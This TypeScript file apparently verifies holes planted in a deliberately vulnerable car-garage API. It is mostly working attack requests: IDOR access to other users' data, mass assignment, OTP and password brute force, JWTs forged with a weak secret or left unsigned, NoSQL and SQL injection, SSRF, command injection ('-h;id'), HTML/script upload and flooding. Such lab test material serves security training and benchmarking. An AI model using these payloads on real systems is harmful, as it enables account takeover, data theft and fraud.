import { signed } from '../kit/weak-token.ts'
import { isDone, memberOf, shows } from '../kit/world.ts'
import type { Check } from '../kit/world.ts'
import { logIn } from './log-in.ts'

const CORA = 'cora@mail.example'
const DAN = 'dan@mail.example'
const DANS_CAR = 'c94f0e2a-6b7d-4d0f-8b3a-5f6e7d8c9b22'
const DANS_VIN = '2DAN0000000000002'

/** A request that one caller sends with their own token; the hole is open where it succeeds, and shows `pattern`. */
function asked(
  parts: Pick<Check, 'name' | 'gains'>,
  who: string,
  line: string,
  body?: Record<string, unknown>,
  pattern = /(?:)/,
): Check {
  const [method = '', target = ''] = line.split(' ')
  return {
    ...parts,
    works: async (world) => {
      const headers = await world.as(who)
      return shows(
        await world.ask({ method, target, headers, ...(body === undefined ? {} : { body }) }),
        pattern,
      )
    },
  }
}

/** A change to something of Dan's that Cora asks for; the hole is open where Dan finds it done. */
function changed(
  parts: Pick<Check, 'name' | 'gains'>,
  line: string,
  body: Record<string, unknown> | undefined,
  [target, pattern]: readonly [string, RegExp],
): Check {
  const attack = asked(parts, CORA, line, body)
  return {
    ...parts,
    works: async (world) => {
      await attack.works(world)
      return shows(await world.ask({ target, headers: await world.as(DAN) }), pattern)
    },
  }
}

/** What is planted in the garage: whose things they are, and who may do what. */
const ACCESS: readonly Check[] = [
  asked(
    { name: 'foreign-location', gains: 'where the car of another stands' },
    CORA,
    `GET /api/vehicles/${DANS_CAR}/location`,
    undefined,
    /37\.746/,
  ),
  asked(
    { name: 'foreign-horn', gains: 'the car of another is woken; no answer tells whose it is' },
    CORA,
    `POST /api/vehicles/${DANS_CAR}/horn`,
  ),
  asked(
    { name: 'foreign-report', gains: 'what is wrong with the car of another, and their number' },
    CORA,
    'GET /api/mechanic/report?report_id=2',
    undefined,
    /petrol/,
  ),
  asked(
    { name: 'foreign-order', gains: 'what another bought' },
    CORA,
    'GET /api/shop/orders/2',
    undefined,
    /dan@/,
  ),
  {
    name: 'order-without-log-in',
    gains: 'what anybody bought: nobody asks who calls',
    works: async (world) => shows(await world.ask({ target: '/api/shop/orders/2' }), /dan@/),
  },
  changed(
    { name: 'foreign-order-returned', gains: 'the order of another is sent back' },
    'POST /api/shop/orders/return?order_id=2',
    undefined,
    ['/api/shop/orders/2', /return pending/],
  ),
  changed(
    { name: 'foreign-order-changed', gains: 'the order of another is changed' },
    'PUT /api/shop/orders/2',
    { quantity: 9 },
    ['/api/shop/orders/2', /"quantity":9/],
  ),
  changed(
    { name: 'foreign-profile', gains: 'the profile of another, by a name in the body' },
    'PUT /api/me',
    { email: DAN, number: '555-6666' },
    ['/api/me', /555-6666/],
  ),
  asked(
    { name: 'foreign-video', gains: 'the film of another' },
    CORA,
    'GET /api/videos/2',
    undefined,
    /dan\.mp4/,
  ),
  {
    name: 'foreign-video-deleted',
    gains: 'the film of another is gone',
    works: async (world) => {
      const headers = await world.as(CORA)
      await world.ask({ method: 'DELETE', target: '/api/videos/2', headers })
      const own = await world.as(DAN)
      return (await world.ask({ target: '/api/videos/2', headers: own })).status === 404
    },
  },
  asked(
    { name: 'work-of-managers', gains: 'any film is gone, by anybody' },
    CORA,
    'DELETE /api/manager/videos/2',
  ),
  asked(
    { name: 'list-of-managers', gains: 'everybody with their passwords' },
    CORA,
    'GET /api/manager/people',
    undefined,
    /fan-Belt/,
  ),
  asked({ name: 'role-for-oneself', gains: 'any role one likes' }, CORA, 'PUT /api/manager/role', {
    email: CORA,
    role: 'manager',
  }),
  asked(
    { name: 'requests-of-mechanics', gains: 'what is wrong with everybody’s cars' },
    CORA,
    'GET /api/mechanic/requests',
    undefined,
    /petrol/,
  ),
  asked(
    { name: 'product-by-customer', gains: 'a product of one’s own making, at a price one is paid' },
    CORA,
    'POST /api/shop/products',
    { name: 'Gift', price: -50, image_url: 'x.svg' },
  ),
]

/** Fields that may not be set, fields that may not be seen. */
const FIELDS: readonly Check[] = [
  {
    name: 'role-by-sign-up',
    gains: 'the role of a manager',
    works: async (world) => {
      const body = { email: 'eve@mail.example', name: 'Eve', number: '1', password: 'p-p-p-p-1' }
      await world.ask({ method: 'POST', target: '/api/signup', body: { ...body, role: 'manager' } })
      return memberOf(await logIn(world, body.email, body.password), 'role') === 'manager'
    },
  },
  {
    name: 'credit-by-profile',
    gains: 'money',
    works: async (world) => {
      const headers = await world.as(CORA)
      const body = { email: CORA, credit: 9999 }
      await world.ask({ method: 'PUT', target: '/api/me', headers, body })
      return shows(await world.ask({ target: '/api/me', headers }), /9999/)
    },
  },
  asked(
    { name: 'returned-by-oneself', gains: 'money back for what was never sent back' },
    CORA,
    'PUT /api/shop/orders/1',
    { status: 'returned' },
  ),
  asked(
    { name: 'negative-quantity', gains: 'money: what is bought backwards is paid out' },
    CORA,
    'POST /api/shop/orders',
    { product_id: 1, quantity: -100 },
  ),
  asked(
    { name: 'worth-what-one-says', gains: 'money: how much a coupon is worth says the client' },
    CORA,
    'POST /api/coupons/apply',
    { coupon_code: 'SPRING10', amount: 100_000 },
  ),
  asked(
    { name: 'inner-field', gains: 'parameters of a converter that runs on the server' },
    CORA,
    'PUT /api/videos/1',
    { name: 'a.mp4', conversion_params: '-i /etc/passwd' },
  ),
  asked(
    { name: 'authors-in-full', gains: 'addresses, and whose car is which' },
    CORA,
    'GET /api/posts',
    undefined,
    /dan@mail|c94f0e2a/,
  ),
  asked(
    { name: 'post-in-another-name', gains: 'words in the mouth of another' },
    CORA,
    'POST /api/posts',
    { title: 't', content: 'c', author: DAN },
  ),
  asked(
    { name: 'card-in-order', gains: 'card numbers' },
    CORA,
    'GET /api/shop/orders/1',
    undefined,
    /4111-1111/,
  ),
  asked(
    { name: 'password-in-profile', gains: 'passwords' },
    CORA,
    'GET /api/me',
    undefined,
    /spark-Plug/,
  ),
]

/** Log-ins, codes, tokens. */
const LOG_INS: readonly Check[] = [
  {
    name: 'who-is-registered',
    gains: 'which addresses have an account',
    works: async (world) => {
      const known = await logIn(world, DAN, 'wrong-guess')
      const unknown = await logIn(world, 'nobody@mail.example', 'wrong-guess')
      const plain = (text: string): string => text.replaceAll(/[0-9a-f]{32}/g, '')
      return known.status !== unknown.status || plain(known.text) !== plain(unknown.text)
    },
  },
  {
    name: 'who-forgot',
    gains: 'the same, by asking for a code',
    works: async (world) => {
      const [known, unknown] = await Promise.all(
        [DAN, 'nobody@mail.example'].map((email) =>
          world.ask({ method: 'POST', target: '/api/password/forgot', body: { email } }),
        ),
      )
      return known?.status !== unknown?.status
    },
  },
  ...['v2', 'v1'].map((version): Check => ({
    name: `guessed-code-${version}`,
    gains: 'an account, by trying every code',
    works: async (world) => {
      await world.ask({ method: 'POST', target: '/api/password/forgot', body: { email: DAN } })
      for (let code = 400; code <= 417; code++) {
        const body = { email: DAN, otp: `0${code}`, password: 'taken-Over-1' }
        await world.ask({ method: 'POST', target: `/api/${version}/password/check-otp`, body })
      }
      return memberOf(await logIn(world, DAN, 'taken-Over-1'), 'access_token') !== undefined
    },
  })),
  {
    name: 'guessed-password',
    gains: 'an account, after as many guesses as it takes',
    works: async (world) => {
      for (let number = 2; number < 22; number++) await logIn(world, DAN, `fan-Belt-${number}`)
      return memberOf(await logIn(world, DAN, 'fan-Belt-22'), 'access_token') !== undefined
    },
  },
  {
    name: 'guessed-secret',
    gains: 'anybody: tokens are signed with a word of every list',
    works: async (world) => {
      const token = signed({ sub: DAN, exp: 4_102_444_800 }, 'garage123')
      const headers = { authorization: `Bearer ${token}` }
      return shows(await world.ask({ target: '/api/me', headers }), /"Dan"/)
    },
  },
  {
    name: 'unsigned-token',
    gains: 'anybody: tokens say themselves how they are signed',
    works: async (world) => {
      const token = signed({ sub: 'mona@garage.example', exp: 4_102_444_800 }, undefined)
      const headers = { authorization: `Bearer ${token}` }
      return shows(await world.ask({ target: '/api/manager/people', headers }), /fan-Belt/)
    },
  },
]

/** What the program does with what it gets. */
const INPUTS: readonly Check[] = [
  asked(
    { name: 'any-coupon', gains: 'a coupon nobody gave, by an operator of the database' },
    CORA,
    'POST /api/coupons/validate',
    { coupon_code: { $ne: 1 } },
    /SPRING10/,
  ),
  asked(
    { name: 'quote-in-coupon', gains: 'the same, by what the other database reads' },
    CORA,
    'POST /api/coupons/apply',
    { coupon_code: "x' OR '1'='1", amount: 10 },
  ),
  {
    name: 'errand-inside',
    gains: 'what only this machine may ask for',
    works: async (world) => {
      const headers = await world.as(CORA)
      const port = world.apiPort
      const body = {
        mechanic_api: `http://127.0.0.1:${port}/api/debug/env`,
        mechanic_code: 'M1',
        problem: 'none',
        vin: '1CORA000000000001',
      }
      const target = '/api/mechanic/contact'
      return shows(await world.ask({ method: 'POST', target, headers, body }), /garage123/)
    },
  },
  {
    name: 'many-errands',
    gains: 'a flood: one request is repeated as often as one likes',
    works: async (world) => {
      const headers = await world.as(CORA)
      const body = {
        mechanic_api: 'http://mechanics.garage.example/receive',
        mechanic_code: 'M1',
        problem: 'none',
        vin: DANS_VIN,
        repeat_request_if_failed: true,
        number_of_repeats: 100_000,
      }
      const target = '/api/mechanic/contact'
      return shows(await world.ask({ method: 'POST', target, headers, body }), /100000/)
    },
  },
  asked(
    { name: 'shell', gains: 'commands of one’s own on the server' },
    'mona@garage.example',
    `GET /api/manager/disk?parameters=${encodeURIComponent('-h;id')}`,
    undefined,
    /uid=0/,
  ),
  {
    name: 'environment',
    gains: 'the secrets of the program, where no document says so',
    works: async (world) => shows(await world.ask({ target: '/api/debug/env' }), /garage123/),
  },
  {
    name: 'any-upload',
    gains: 'a page in place of a film',
    works: async (world) =>
      isDone(await upload(world, 'text/html', Buffer.from('<script>alert(1)</script>'))),
  },
  {
    name: 'endless-upload',
    gains: 'a full disk',
    works: async (world) => isDone(await upload(world, 'video/mp4', Buffer.alloc(3_000_000, 'x'))),
  },
  asked(
    { name: 'endless-page', gains: 'a page of any length, made by the server' },
    CORA,
    'GET /api/shop/orders?limit=1000000',
  ),
  {
    name: 'inside-shown',
    gains: 'files and lines of the program',
    works: async (world) => {
      const headers = await world.as(CORA)
      const body = { mechanic_api: 'no url', mechanic_code: '', problem: '', vin: '' }
      const target = '/api/mechanic/contact'
      return /\.ts:\d+/.test((await world.ask({ method: 'POST', target, headers, body })).text)
    },
  },
  {
    name: 'banner',
    gains: 'which program and version runs',
    works: async (world) =>
      /uvicorn/.test([...(await world.ask({ target: '/api/me' })).headers.values()].join()),
  },
]

/** What is planted in the garage. */
export const HOLES: readonly Check[] = [...ACCESS, ...FIELDS, ...LOG_INS, ...INPUTS]

async function upload(world: Parameters<Check['works']>[0], type: string, bytes: Buffer) {
  const { authorization } = await world.as(CORA)
  const head = `--b\r\nContent-Disposition: form-data; name="file"; filename="f"\r\nContent-Type: ${type}\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--b--\r\n')])
  const headers = { authorization, 'content-type': 'multipart/form-data; boundary=b' }
  return world.ask({ method: 'POST', target: '/api/videos', headers, body })
}
